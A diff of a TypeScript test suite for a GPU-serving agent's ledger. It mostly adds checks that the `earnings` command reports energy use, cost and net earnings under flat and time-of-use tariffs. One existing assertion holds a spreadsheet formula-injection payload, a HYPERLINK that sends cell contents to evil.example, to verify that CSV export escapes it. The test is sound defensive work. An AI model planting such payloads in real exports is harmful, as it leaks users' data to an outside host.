@@ -2,6 +2,8 @@ import type { ChildProcess } from 'node:child_process';
 import { existsSync } from 'node:fs';
 import { mkdir, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
+import type { JobRecord } from '@usepod-agent/core';
+import { Ledger } from '@usepod-agent/plugin-ledger';
 import type { TestCoordinator, VllmEmulator } from '@usepod-agent/testkit';
 import Database from 'better-sqlite3';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -122,7 +124,7 @@ describe('the ledger', () => {
     expect(doc.rows.find((r) => r.group === 'nope')).toMatchObject({ served: 0, missed: 1 });
     const csv = await cli(['earnings', '--config', cfg, '--since', '1h', '--csv', '--by', 'backend']);
     expect(csv.stdout.split('\n')[0]).toBe(
-      'group,served,failed,missed,cancelled,input_tokens,output_tokens,earnings_usdc,tokens_per_sec,busy',
+      'group,served,failed,missed,cancelled,input_tokens,output_tokens,earnings_usdc,tokens_per_sec,busy,energy_kwh,idle_kwh,energy_cost_usdc,net_usdc,usdc_per_kwh',
     );
     const table = await cli(['earnings', '--config', cfg, '--by', 'day']);
     expect(table.stdout).toMatch(/^total\s+3\s+0\s+2\s/m);
@@ -186,7 +188,9 @@ describe('the ledger', () => {
     expect(csv.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
     expect(csv.stdout).not.toMatch(/^"?=/m);
     const db = new Database(ledgerFile(), { readonly: true });
-    expect(db.pragma('user_version', { simple: true })).toBe(3);
+    expect(db.pragma('user_version', { simple: true })).toBe(4);
+    // The old row is in the quarter-hour summaries `earnings` reads (backfilled once).
+    expect(db.prepare("SELECT sum(served) FROM job_sums WHERE model = 'm'").pluck().get()).toBe(1);
     expect(db.prepare('SELECT job_id, refusal FROM jobs ORDER BY received_at').all()).toEqual([
       { job_id: 'old-1', refusal: null },
       { job_id: expect.any(String), refusal: 'model_not_loaded' },
@@ -206,5 +210,121 @@ describe('the ledger', () => {
     a.child.kill('SIGTERM');
     await a.exited;
     expect(existsSync(ledgerFile())).toBe(false);
+  }, 60_000);
+
+  it('`earnings` prices the energy in the ledger: kWh, cost, net and USDC per kWh at a flat and a time-of-use tariff', async () => {
+    // Yesterday (UTC): jobs and the GPUs' energy on both sides of 17:00, when the dear tariff starts.
+    const day = Math.floor(Date.now() / 86_400_000) * 86_400_000 - 86_400_000;
+    const at = (h: number, m: number) => day + (h * 60 + m) * 60_000;
+    const job = (
+      id: string,
+      model: string,
+      receivedAt: number,
+      out: number,
+      outPer1m: number,
+    ): JobRecord => ({
+      jobId: id,
+      model,
+      backend: 'vllm',
+      outcome: 'done',
+      inputTokens: 0,
+      outputTokens: out,
+      bytes: 1,
+      durationMs: 60_000,
+      firstByteMs: 100,
+      receivedAt,
+      format: 'openai',
+      inputPer1m: 0,
+      outputPer1m: outPer1m,
+    });
+    await mkdir(join(dir, 'id'), { recursive: true });
+    const l = Ledger.open(ledgerFile());
+    // m-a earns 0.2 USDC per job, m-b 0.001.
+    l.write([
+      job('x', 'm-a', at(16, 40), 100_000, 2_000_000),
+      job('y', 'm-a', at(17, 20), 100_000, 2_000_000),
+    ]);
+    l.write([job('z', 'm-b', at(17, 25), 1000, 1_000_000)]);
+    l.write([], [], {
+      jobs: [
+        { jobId: 'x', receivedAt: at(16, 40), wh: 200 },
+        { jobId: 'y', receivedAt: at(17, 20), wh: 100 },
+        { jobId: 'z', receivedAt: at(17, 25), wh: 50 },
+      ],
+      periods: [
+        { from: at(16, 30), to: at(17, 0), servingWh: 200, idleWh: 20 },
+        { from: at(17, 0), to: at(17, 30), servingWh: 150, idleWh: 10 },
+      ],
+    });
+    l.close();
+    const flat = await config('[energy]\nprice_per_kwh = 0.1\n');
+    const earn = async (cfg: string, ...args: string[]) => {
+      const r = await runCli(['earnings', '--config', cfg, '--since', '3d', ...args], {
+        env: homeEnv(dir, { TZ: 'UTC' }),
+        cwd: dir,
+      });
+      expect(r.stderr).toBe('');
+      return r.stdout;
+    };
+    const json = async (cfg: string, by = 'model') => JSON.parse(await earn(cfg, '--json', '--by', by));
+    const f = await json(flat);
+    expect(f.energy_note).toBeNull();
+    const a = f.rows.find((r: { group: string }) => r.group === 'm-a');
+    expect(a).toMatchObject({ earnings_usdc: 0.4, energy_kwh: 0.3 });
+    expect(a.energy_cost_usdc).toBeCloseTo(0.03, 12);
+    expect(a.net_usdc).toBeCloseTo(0.37, 12);
+    expect(a.usdc_per_kwh).toBeCloseTo(0.4 / 0.3, 12);
+    // The total's energy is all the GPUs used, idle too.
+    expect(f.totals.energy_kwh).toBeCloseTo(0.38, 12);
+    expect(f.totals.idle_kwh).toBeCloseTo(0.03, 12);
+    expect(f.totals.energy_cost_usdc).toBeCloseTo(0.038, 12);
+    expect(f.totals.net_usdc).toBeCloseTo(0.401 - 0.038, 12);
+
+    // From 17:00 UTC the kWh costs 0.4: each quarter hour at the price in force then.
+    const tou = await config(
+      '[energy]\nprice_per_kwh = 0.1\ntimezone = "UTC"\n[[energy.tariff]]\nwhen = "daily 17:00-21:00"\nprice_per_kwh = 0.4\n',
+    );
+    const t = await json(tou);
+    const cost = (g: string) => t.rows.find((r: { group: string }) => r.group === g).energy_cost_usdc;
+    expect(cost('m-a')).toBeCloseTo(0.2 * 0.1 + 0.1 * 0.4, 12);
+    expect(cost('m-b')).toBeCloseTo(0.05 * 0.4, 12);
+    expect(t.rows.find((r: { group: string }) => r.group === 'm-b').net_usdc).toBeCloseTo(0.001 - 0.02, 12);
+    expect(t.totals.energy_cost_usdc).toBeCloseTo(0.22 * 0.1 + 0.16 * 0.4, 12);
+    // By hour: the GPUs' energy of each hour, idle included, at its price.
+    const h = await json(tou, 'hour');
+    expect(
+      h.rows.map((r: { energy_kwh: number; idle_kwh: number; energy_cost_usdc: number }) => [
+        r.energy_kwh.toFixed(6),
+        r.idle_kwh.toFixed(6),
+        r.energy_cost_usdc.toFixed(6),
+      ]),
+    ).toEqual([
+      ['0.220000', '0.020000', '0.022000'],
+      ['0.160000', '0.010000', '0.064000'],
+    ]);
+    // CSV carries the same figures; the table shows them with a line on serving and idle energy.
+    const csv = (await earn(tou, '--csv')).trim().split('\n');
+    expect(csv[0]).toMatch(/,energy_kwh,idle_kwh,energy_cost_usdc,net_usdc,usdc_per_kwh$/);
+    expect(csv.find((x) => x.startsWith('m-b,'))).toMatch(
+      /^m-b,1,0,0,0,0,1000,0\.001000,16\.7,0\.\d{4},0\.050000,,0\.020000,-0\.019000,0\.020000$/,
+    );
+    const table = await earn(tou);
+    expect(table).toMatch(/^\s+SERVED .* KWH\s+COST\s+NET\s+USDC\/KWH$/m);
+    expect(table).toMatch(/^Energy: 0\.3500 kWh serving, 0\.0300 kWh idle \(in the total\)\.$/m);
+
+    // A ledger with no energy (no GPU tool): nothing is counted, one line says why.
+    const bare = join(dir, 'bare.db');
+    const b = Ledger.open(bare);
+    b.write([job('w', 'm-a', at(12, 0), 10, 1_000_000)]);
+    b.close();
+    const none = await config(`[energy]\nprice_per_kwh = 0.1\n[ledger]\npath = "${bare}"\n`);
+    const n = await json(none);
+    expect(n.rows[0]).toMatchObject({ served: 1, energy_kwh: null, energy_cost_usdc: null, net_usdc: null });
+    expect(n.energy_note).toMatch(/^no energy measured in this window/);
+    const lines = (await earn(none)).trim().split('\n');
+    expect(lines.filter((x) => x.startsWith('Energy:'))).toEqual([
+      'Energy: no energy measured in this window (no nvidia-smi or rocm-smi, or no [energy] section): kWh and cost are not counted.',
+    ]);
+    expect(lines.join('\n')).not.toMatch(/KWH/);
   }, 60_000);
 });
